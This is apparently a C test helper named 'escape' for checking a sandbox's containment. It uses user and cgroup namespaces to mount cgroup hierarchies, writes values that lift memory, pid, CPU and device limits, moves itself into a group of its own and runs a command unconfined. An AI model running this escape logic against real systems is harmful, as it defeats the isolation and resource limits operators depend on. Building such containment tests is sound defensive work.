/*
 * escape [-n] CONTROLLERS COMMAND [ARG...]: a hostile program with user number 0. Makes user, cgroup
 * and mount namespaces of its own, mounts the hierarchies of CONTROLLERS ("memory,pids") there, lifts
 * every limit in every group it finds, moves itself into groups of its own making, and executes
 * COMMAND, which then uses what no limit forbids any more. -n: without a new user namespace, with the
 * privileges it has.
 *
 * One line "escape: mounted N, wrote N" goes to stderr, so that a test sees that it could try at all.
 * It attacks what a run is limited by, and nothing else: a hierarchy that is not among CONTROLLERS, and
 * the root group of a machine, where only the machine itself could come to harm, it leaves alone.
 */
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static int mounted, wrote;

static int write_text(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC | O_NOFOLLOW);
    ssize_t n = fd < 0 ? -1 : write(fd, text, strlen(text));

    if (fd >= 0)
        close(fd);
    return n == (ssize_t)strlen(text) ? 0 : -1;
}

/* What lifts a limit, in both versions; the order is that of raising. */
static const struct {
    const char *file, *text;
} lifts_table[] = {
    { "memory.memsw.limit_in_bytes", "-1" },
    { "memory.limit_in_bytes", "-1" },
    { "memory.swap.max", "max" },
    { "memory.max", "max" },
    { "memory.high", "max" },
    { "memory.oom.group", "0" },
    { "memory.oom_control", "1" },
    { "pids.max", "max" },
    { "cpu.cfs_quota_us", "-1" },
    { "cpu.max", "max 100000" },
    { "cpu.shares", "262144" },
    { "cpu.weight", "10000" },
    { "cpuset.cpus", "0-1" },
    { "devices.allow", "a" },
    { "cgroup.max.depth", "max" },
    { "cgroup.subtree_control", "+memory +pids +cpu" },
};

static void lift_limits(const char *dir)
{
    char path[512];

    for (size_t i = 0; i < sizeof(lifts_table) / sizeof(lifts_table[0]); i++) {
        snprintf(path, sizeof(path), "%s/%s", dir, lifts_table[i].file);
        if (write_text(path, lifts_table[i].text) == 0)
            wrote++;
    }
}

/* Only the root group of a whole hierarchy has the one file or lacks the other. */
static int is_a_groups_own(const char *dir)
{
    char v1_root[512], v1_any[512], v2_below[512];

    snprintf(v1_root, sizeof(v1_root), "%s/release_agent", dir);
    snprintf(v1_any, sizeof(v1_any), "%s/tasks", dir);
    snprintf(v2_below, sizeof(v2_below), "%s/cgroup.type", dir);
    return access(v2_below, F_OK) == 0 || (access(v1_any, F_OK) == 0 && access(v1_root, F_OK) < 0);
}

/* A hierarchy at DIR: its root, what the root's parent would be, and a new group to go into. */
static void attack(const char *dir)
{
    char path[512];

    if (!is_a_groups_own(dir))
        return;
    lift_limits(dir);
    snprintf(path, sizeof(path), "%s/../..", dir);
    if (is_a_groups_own(path))
        lift_limits(path);
    snprintf(path, sizeof(path), "%s/ration-free", dir);
    if (mkdir(path, 0755) < 0)
        return;
    wrote++;
    lift_limits(path);
    snprintf(path, sizeof(path), "%s/ration-free/cgroup.procs", dir);
    if (write_text(path, "0") == 0)
        wrote++;
}

static void mount_and_attack(const char *type, const char *options, const char *name)
{
    char dir[256];

    snprintf(dir, sizeof(dir), "/tmp/%s", name);
    mkdir(dir, 0755);
    if (mount("none", dir, type, 0, options) < 0)
        return;
    mounted++;
    attack(dir);
}

/* A controller's hierarchy of version 1, alone or as it is usually joined with another. */
static void attack_controller(const char *name)
{
    static const char *const joined[] = { "cpu,cpuacct", "net_cls,net_prio" };
    char dir[256];

    snprintf(dir, sizeof(dir), "/sys/fs/cgroup/%s", name);
    attack(dir);
    mount_and_attack("cgroup", name, name);
    for (size_t i = 0; i < sizeof(joined) / sizeof(joined[0]); i++)
        if (strncmp(joined[i], name, strlen(name)) == 0)
            mount_and_attack("cgroup", joined[i], joined[i]);
}

static void become_root_of_own(void)
{
    char map[64];
    unsigned uid = getuid(), gid = getgid();

    if (unshare(CLONE_NEWUSER) < 0) {
        fprintf(stderr, "escape: no user namespace: %s\n", strerror(errno));
        return;
    }
    snprintf(map, sizeof(map), "0 %u 1", uid);
    write_text("/proc/self/uid_map", map);
    write_text("/proc/self/setgroups", "deny");
    snprintf(map, sizeof(map), "0 %u 1", gid);
    write_text("/proc/self/gid_map", map);
}

int main(int argc, char **argv)
{
    int privileged = argc > 1 && strcmp(argv[1], "-n") == 0;

    argv += 1 + privileged;
    if (!argv[0] || !argv[1]) {
        fputs("escape [-n] CONTROLLERS COMMAND [ARG...]\n", stderr);
        return 2;
    }
    if (!privileged)
        become_root_of_own();
    if (unshare(CLONE_NEWNS) < 0)
        fprintf(stderr, "escape: no mount namespace: %s\n", strerror(errno));
    else
        mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL);
    if (unshare(CLONE_NEWCGROUP) < 0)
        fprintf(stderr, "escape: no cgroup namespace: %s\n", strerror(errno));
    if (mount("none", "/tmp", "tmpfs", 0, NULL) < 0)
        fprintf(stderr, "escape: no tmpfs: %s\n", strerror(errno));
    attack("/sys/fs/cgroup");
    mount_and_attack("cgroup2", NULL, "unified");
    for (char *name = strtok(argv[0], ","); name; name = strtok(NULL, ","))
        attack_controller(name);
    fprintf(stderr, "escape: mounted %d, wrote %d\n", mounted, wrote);
    umount2("/tmp", MNT_DETACH);
    execvp(argv[1], argv + 1);
    fprintf(stderr, "escape: %s: %s\n", argv[1], strerror(errno));
    return 3;
}
